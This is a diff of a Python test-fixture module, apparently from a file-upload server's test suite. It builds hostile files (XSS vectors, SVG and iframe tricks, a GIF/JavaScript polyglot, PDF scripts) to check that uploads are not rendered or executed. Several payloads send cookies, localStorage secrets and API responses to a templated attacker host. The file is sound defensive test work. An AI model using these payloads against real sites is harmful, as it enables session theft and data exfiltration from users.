@@ -1,7 +1,7 @@
-"""Files as somebody would write them who wants to harm whoever opens them.
+"""Files that an attacker would upload to harm the people who open them.
 
-What gets to do something asks the writer's own server for its name, and tells what it found out. `{hit}` stands for
-the address of that server, up to the name.
+A vector that works requests NAME (its own name) from the attacker's server, with what it could read as `?report=`.
+`{hit}` stands for the address of that server, up to the name.
 """
 
 from collections.abc import Mapping
@@ -9,27 +9,27 @@ from dataclasses import dataclass
 
 from tests.makers import gif, jpeg, png
 
-_ASK = "new Image().src='{hit}NAME'"
-_TELL = "(what => new Image().src = '{hit}NAME?told=' + encodeURIComponent(what))"
+_HIT = "new Image().src='{hit}NAME'"
+_REPORT = "(what => new Image().src = '{hit}NAME?report=' + encodeURIComponent(what))"
 
-# What a browser does without being asked, each by its own means. Python's format: {{ is one brace.
-UNASKED = {
-    "script": f"<script>{_ASK}</script>",
-    "script in an svg": f"<svg><script>{_ASK}</script></svg>",
+# Vectors that need no click. These are templates for str.format: {{ is one brace.
+AUTOMATIC = {
+    "script": f"<script>{_HIT}</script>",
+    "script in an svg": f"<svg><script>{_HIT}</script></svg>",
     "script elsewhere": "<script src='{hit}NAME'></script>",
     "module": "<script type=module>import '{hit}NAME'</script>",
     "module elsewhere": "<script type=module src='{hit}NAME'></script>",
-    "onerror": f'<img src=x: onerror="{_ASK}">',
-    "onload": f'<svg onload="{_ASK}"></svg>',
-    "onfocus": f'<input autofocus onfocus="{_ASK}">',
-    "ontoggle": f'<details open ontoggle="{_ASK}">x</details>',
-    "onbegin": f'<svg><animate attributeName=x dur=1s onbegin="{_ASK}"></animate></svg>',
-    "onanimationstart": f"<style>@keyframes k{{{{}}}}</style><p style='animation: k 1s' onanimationstart=\"{_ASK}\">",
+    "onerror": f'<img src=x: onerror="{_HIT}">',
+    "onload": f'<svg onload="{_HIT}"></svg>',
+    "onfocus": f'<input autofocus onfocus="{_HIT}">',
+    "ontoggle": f'<details open ontoggle="{_HIT}">x</details>',
+    "onbegin": f'<svg><animate attributeName=x dur=1s onbegin="{_HIT}"></animate></svg>',
+    "onanimationstart": f"<style>@keyframes k{{{{}}}}</style><p style='animation: k 1s' onanimationstart=\"{_HIT}\">",
     "javascript frame": "<iframe src=\"javascript:void(fetch('{hit}NAME'))\"></iframe>",
-    "srcdoc": f'<iframe srcdoc="<script>{_ASK}</script>"></iframe>',
-    "srcdoc that may": f'<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>{_ASK}</script>"></iframe>',
+    "srcdoc": f'<iframe srcdoc="<script>{_HIT}</script>"></iframe>',
+    "srcdoc allowed": f'<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>{_HIT}</script>"></iframe>',
     "srcdoc picture": "<iframe srcdoc=\"<img src='{hit}NAME'>\"></iframe>",
-    "data frame": f'<iframe src="data:text/html,<script>{_ASK}</script>"></iframe>',
+    "data frame": f'<iframe src="data:text/html,<script>{_HIT}</script>"></iframe>',
     "frame": "<iframe src='{hit}NAME'></iframe>",
     "object": "<object data='{hit}NAME'></object>",
     "embed": "<embed src='{hit}NAME'>",
@@ -58,43 +58,43 @@ UNASKED = {
     "websocket": "<script>new WebSocket('{hit}NAME'.replace('http', 'ws'))</script>",
     "event source": "<script>new EventSource('{hit}NAME')</script>",
     "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{hit}NAME')\"])))</script>",
-    "cookie": f"<script>{_TELL}(document.cookie)</script>",
-    "storage": f"<script>{_TELL}(localStorage.secret)</script>",
-    "the API": f"<script>fetch('/api/v1/reports/suite-runs').then(r => r.text()).then({_TELL})</script>",
-    "parent": f"<script>parent.document.title = 'owned'; {_TELL}(parent.document.URL)</script>",
-    "itself": f"<script>document.title = 'owned'; {_ASK}</script>",
-    "service worker": f"<script>navigator.serviceWorker.register('/test/worker.js').then({_TELL})</script>",
+    "cookie": f"<script>{_REPORT}(document.cookie)</script>",
+    "storage": f"<script>{_REPORT}(localStorage.secret)</script>",
+    "the API": f"<script>fetch('/api/v1/reports/suite-runs').then(r => r.text()).then({_REPORT})</script>",
+    "parent": f"<script>parent.document.title = 'owned'; {_REPORT}(parent.document.URL)</script>",
+    "itself": f"<script>document.title = 'owned'; {_HIT}</script>",
+    "service worker": f"<script>navigator.serviceWorker.register('/test/worker.js').then({_REPORT})</script>",
 }
-# What leaves the page, each a page of its own.
-LEAVING = {
+# Vectors that navigate away from the page: each needs its own page.
+NAVIGATING = {
     "refresh": "<meta http-equiv=refresh content='0; url={hit}NAME'>",
-    "form": "<form action='{hit}NAME'><input name=told value=x></form><script>document.forms[0].submit()</script>",
+    "form": "<form action='{hit}NAME'><input name=report value=x></form><script>document.forms[0].submit()</script>",
     "location": "<script>location = '{hit}NAME'</script>",
     "top": "<script>top.location = '{hit}NAME'</script>",
     "link to the top": "<a id=a target=_top href='{hit}NAME'>x</a><script>a.click()</script>",
     "saved": "<a id=a download href='{hit}NAME'>x</a><script>a.click()</script>",
 }
-# What is done when a person clicks on it.
+# Vectors that need a click.
 CLICKED = {
     "javascript link": "<a href=\"javascript:void(fetch('{hit}NAME'))\">x</a>",
-    "onclick": f'<a tabindex=0 onclick="{_ASK}">x</a>',
+    "onclick": f'<a tabindex=0 onclick="{_HIT}">x</a>',
     "new window": "<a target=_blank href='{hit}NAME'>x</a>",
     "ping": "<a href='#x' ping='{hit}NAME'>x</a>",
     "button": "<form action='{hit}NAME' method=post><button>x</button></form>",
     "button of its own": "<form><button formmethod=post formaction='{hit}NAME'>x</button></form>",
 }
 FRAMED_CLICKED = CLICKED | {"link to the parent": "<a target=_top href='{hit}NAME'>x</a>"}
-# Where a person goes by a click, knowing it.
+# Plain links, which must keep working.
 LINKS = {"link": "<a href='{hit}NAME'>x</a>", "saved link": "<a download=x.exe href='{hit}NAME'>x</a>"}
 
 TEXT = "What the page has to say"
-_SCRIPT = f"<script>{_ASK}</script>"
-_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_ASK}\"><text y='20'>{TEXT}</text>{_SCRIPT}</svg>"
+_SCRIPT = f"<script>{_HIT}</script>"
+_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_HIT}\"><text y='20'>{TEXT}</text>{_SCRIPT}</svg>"
 
 
 @dataclass(frozen=True)
 class Kind:
-    """A file that one who believes its sender runs, and what it is here."""
+    """A hostile file: its bytes, its declared name and content type, and the type that the server must detect."""
 
     content: bytes
     file_name: str
@@ -103,19 +103,19 @@ class Kind:
 
 
 def page(vectors: Mapping[str, str], hit: str) -> bytes:
-    """An HTML page with these in it, and a sentence."""
+    """An HTML page that holds TEXT and these vectors."""
     lines = "\n".join(filled(text, hit, name) for name, text in vectors.items())
     return f"<!DOCTYPE html><title>harmless</title><p>{TEXT}</p>\n{lines}\n".encode()
 
 
 def pages(hit: str) -> dict[str, Kind]:
-    """Web pages: one with all that stays on it, and one for each way to leave."""
-    found = {"unasked": UNASKED, **{name: {name: text} for name, text in LEAVING.items()}}
+    """Web pages: one with all AUTOMATIC vectors, and one for each of the NAVIGATING vectors."""
+    found = {"automatic": AUTOMATIC, **{name: {name: text} for name, text in NAVIGATING.items()}}
     return {name: Kind(page(vectors, hit), "a.html", "text/html", "text/html") for name, vectors in found.items()}
 
 
 def clickable(vectors: Mapping[str, str], hit: str) -> bytes:
-    """An HTML page on which each of these is a row of 40 pixels, from the top."""
+    """An HTML page with one vector per row, each row 40 pixels high, from the top."""
     rows = "".join(f"<div>{filled(text, hit, name)}</div>" for name, text in vectors.items())
     style = "body, form { margin: 0 } div, a, button { display: block; height: 40px; width: 200px; overflow: hidden }"
     return f"<!DOCTYPE html><title>harmless</title><style>{style}</style>{rows}".encode()
@@ -126,7 +126,7 @@ def filled(text: str, hit: str, name: str) -> str:
 
 
 def kinds(hit: str) -> dict[str, Kind]:
-    """What is no web page, and wants to be one."""
+    """Files of other types that hold HTML with a script: they must not be rendered as web pages."""
 
     def of(name: str, text: str) -> bytes:
         return filled(text, hit, name).encode()
@@ -150,13 +150,13 @@ def kinds(hit: str) -> dict[str, Kind]:
 
 
 def scripts(hit: str) -> dict[str, Kind]:
-    """What is no script and no style sheet, and wants to be one."""
+    """Files of other types that are also valid scripts or style sheets: they must not be run as such."""
     work = "fetch('{hit}NAME-in-' + self.constructor.name)"
 
     def of(name: str) -> bytes:
         return filled(work, hit, name).encode()
 
-    # A picture as wide as /* is a number: what stands between that and its end is a comment of a script.
+    # The width of a GIF whose two bytes are /* starts a JavaScript comment, which hides the rest of the picture.
     picture = bytearray(gif(frames=1))
     picture[6:8] = b"/*"
     css = f"@import '{hit}style'; p {{ color: red }}".encode()
@@ -169,7 +169,7 @@ def scripts(hit: str) -> dict[str, Kind]:
 
 
 def pdf(hit: str) -> bytes:
-    """A page with a script that tries to go out when it is opened, and then says what it can see of where it is."""
+    """A page with a script that tries to reach the network when opened, then shows in a dialog which globals it has."""
     tries = [f"this.submitForm('{hit}submit')", f"app.launchURL('{hit}launch')", f"this.getURL('{hit}get')"]
     seen = "[typeof window, typeof document, typeof fetch, typeof XMLHttpRequest, typeof navigator].join()"
     script = "".join(f"try {{{each}}} catch (error) {{}}" for each in tries) + f"app.alert({seen})"
